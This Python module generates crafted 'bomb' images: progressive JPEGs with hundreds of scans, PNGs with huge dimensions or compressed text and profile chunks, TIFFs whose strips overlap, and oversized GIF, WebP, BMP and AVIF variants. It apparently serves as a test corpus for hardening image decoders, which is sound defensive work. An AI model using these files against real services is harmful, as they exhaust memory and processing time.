"""Files of sound structure that cost far more than their bytes and their image tell."""

import io
import struct
import zlib
from collections.abc import Callable

from PIL import Image, features


def encode(image: Image.Image, kind: str, **options: object) -> bytes:
    file = io.BytesIO()
    image.save(file, kind, **options)
    return file.getvalue()


def zeros(n_bytes: int) -> bytes:
    """Zeros by the zlib format, packed a piece at a time."""
    packer, piece = zlib.compressobj(9), bytes(2**22)
    parts = [packer.compress(piece[: min(n_bytes - at, 2**22)]) for at in range(0, n_bytes, 2**22)]
    return b"".join(parts) + packer.flush()


def segment(marker: int, body: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


def jpeg(side: int, n_scans: int, *, refine: bool = False, components: int = 1) -> bytes:
    """Progressive, flat; each scan says of all blocks that there is nothing new in them."""
    n_blocks = ((side + 7) // 8) ** 2
    ids = range(1, components + 1)
    frame = struct.pack(">BHHB", 8, side, side, components) + b"".join(bytes([i, 0x11, 0]) for i in ids)
    one_code = lambda kind, value: segment(0xC4, bytes([kind, 1, *[0] * 15, value]))  # noqa: E731
    scan = lambda i, first, last, bits: segment(0xDA, bytes([1, i, 0, first, last, bits]))  # noqa: E731
    runs = ("0" + "1" * 14) * -(-n_blocks // 32767)
    runs += "1" * (-len(runs) % 8)
    nothing = bytes(int(runs[at : at + 8], 2) for at in range(0, len(runs), 8)).replace(b"\xff", b"\xff\0")
    dc = b"".join(scan(i, 0, 0, 0) + bytes((n_blocks + 7) // 8) for i in ids)
    begin = b"".join(scan(i, 1, 63, 1 if refine else 0) + nothing for i in ids)
    again = b"".join(scan(i, 1, 63, 0x10 if refine else 0) + nothing for i in ids)
    head = segment(0xDB, bytes([0, *[1] * 64])) + segment(0xC2, frame) + one_code(0, 0) + one_code(0x10, 0xE0)
    return b"\xff\xd8" + head + dc + begin + again * n_scans + b"\xff\xd9"


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(size_wh: tuple[int, int], extra: bytes = b"", *, colour: int = 2) -> bytes:
    """Black, without filters."""
    width, height = size_wh
    row = 1 + width * {0: 1, 2: 3, 6: 4}[colour]
    header = struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, 0)
    parts = (chunk(b"IHDR", header), extra, chunk(b"IDAT", zeros(row * height)), chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def tiff(tags: dict[int, int], body: bytes = b"") -> bytes:
    """A directory of 32-bit numbers, and ``body`` behind it, where a tag 273 or 324 of 0 points."""
    behind = 8 + 2 + 12 * len(tags) + 4
    values = {tag: behind if tag in (273, 324) and not value else value for tag, value in tags.items()}
    packed = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in sorted(values.items()))
    return struct.pack("<2sHIH", b"II", 42, 8, len(tags)) + packed + bytes(4) + body


def tiled(side: int, tile: int) -> bytes:
    body = zeros(tile * tile)
    sizes = {256: side, 257: side, 258: 8, 259: 8, 262: 1, 277: 1, 322: tile, 323: tile}
    return tiff(sizes | {324: 0, 325: len(body)}, body)


def striped(width: int, height: int, rows: int) -> bytes:
    """Many strips that all lie at the same bytes."""
    n = -(-height // rows)
    body = zeros(width * rows)
    at = 8 + 2 + 12 * 9 + 4
    tags = [(256, 4, 1, width), (257, 4, 1, height), (258, 4, 1, 8), (259, 4, 1, 8), (262, 4, 1, 1)]
    tags += [(273, 4, n, at), (277, 4, 1, 1), (278, 4, 1, rows), (279, 4, n, at + 4 * n)]
    packed = b"".join(struct.pack("<HHII", *tag) for tag in tags)
    offsets = struct.pack("<I", at + 8 * n) * n + struct.pack("<I", len(body)) * n
    return struct.pack("<2sHIH", b"II", 42, 8, len(tags)) + packed + bytes(4) + offsets + body


def gif(screen_wh: tuple[int, int], frame_wh: tuple[int, int]) -> bytes:
    """A frame larger than its screen, of one colour."""
    inside = encode(Image.new("P", frame_wh), "GIF")
    return inside[:6] + struct.pack("<HH", *screen_wh) + inside[10:]


def webp_canvas(side: int) -> bytes:
    """An image of 16 x 16 on a canvas that is stated to be large."""
    data = encode(Image.new("RGBA", (16, 16), (1, 2, 3, 4)), "WEBP", lossless=True)
    size = struct.pack("<I", side - 1)[:3]
    body = b"VP8X" + struct.pack("<I", 10) + bytes([0x10, 0, 0, 0]) + size + size + data[12:]
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def webp_frames(n: int) -> bytes:
    """An animation of many small frames."""
    data = encode(Image.new("RGB", (16, 16)), "WEBP", lossless=True)[12:]
    side = struct.pack("<I", 15)[:3]
    frame = b"ANMF" + struct.pack("<I", 16 + len(data)) + bytes(6) + side + side + bytes(4) + data
    head = b"VP8X" + struct.pack("<I", 10) + bytes([2, 0, 0, 0]) + side + side
    body = head + b"ANIM" + struct.pack("<I", 6) + bytes(6) + frame * n
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def bmp_runs(size_wh: tuple[int, int]) -> bytes:
    """Run-length, and nothing in it."""
    head = struct.pack("<IiiHHIIiiII", 40, *size_wh, 1, 8, 1, 8, 0, 0, 0, 0)
    return b"BM" + struct.pack("<IHHI", 1086, 0, 0, 1078) + head + bytes(1024) + b"\0\1" * 4


def avif(stated: int, real: int) -> bytes:
    data = encode(Image.new("RGB", (real, real)), "AVIF", speed=10)
    at = data.find(b"ispe") + 8
    return data[:at] + struct.pack(">II", stated, stated) + data[at + 8 :]


BOMBS: dict[str, Callable[[], bytes]] = {
    "jpeg of 1,200 scans": lambda: jpeg(9400, 1200),
    "jpeg of 30 scans that refine": lambda: jpeg(9400, 29, refine=True),
    "jpeg of 3 x 9 scans": lambda: jpeg(9400, 8, refine=True, components=3),
    "jpeg of 990 scans, small": lambda: jpeg(64, 900),
    "jpeg of arithmetic coding": lambda: jpeg(9400, 1).replace(b"\xff\xc2", b"\xff\xca", 1),
    "png of 9,400 a side": lambda: png((9400, 9400)),
    "png of 9,400 a side, alpha": lambda: png((9400, 9400), colour=6),
    "png of one column": lambda: png((1, 89_000_000), colour=0),
    "png of one row": lambda: png((89_000_000, 1), colour=0),
    "png of 890 columns": lambda: png((890, 100_000)),
    "png with text that unpacks": lambda: png((9, 9), chunk(b"zTXt", b"a\0\0" + zeros(2**28))),
    "png with a profile that unpacks": lambda: png((9, 9), chunk(b"iCCP", b"a\0\0" + zeros(2**28))),
    "png with text in many pieces": lambda: png((9, 9), chunk(b"zTXt", b"a\0\0" + zeros(10**6)) * 60),
    "png with a million chunks": lambda: png((9, 9), chunk(b"teSt", b"") * 10**6),
    "tiff in one tile": lambda: tiled(64, 23_168),
    "tiff in tiles of 16, its columns long": lambda: tiff({256: 16, 257: 99_000, 258: 8, 259: 8, 262: 1}),
    "tiff of strips at the same bytes": lambda: striped(890, 100_000, 1),
    "tiff of one column": lambda: striped(1, 5_000_000, 1),
    "gif larger than its screen": lambda: gif((1, 1), (9400, 9400)),
    "webp of a stated canvas": lambda: webp_canvas(16_383),
    "webp of many frames": lambda: webp_frames(400_000),
    "bmp in runs": lambda: bmp_runs((30_000, 30_000)),
}
if features.check("avif"):
    BOMBS["avif that states less than it holds"] = lambda: avif(64, 4000)
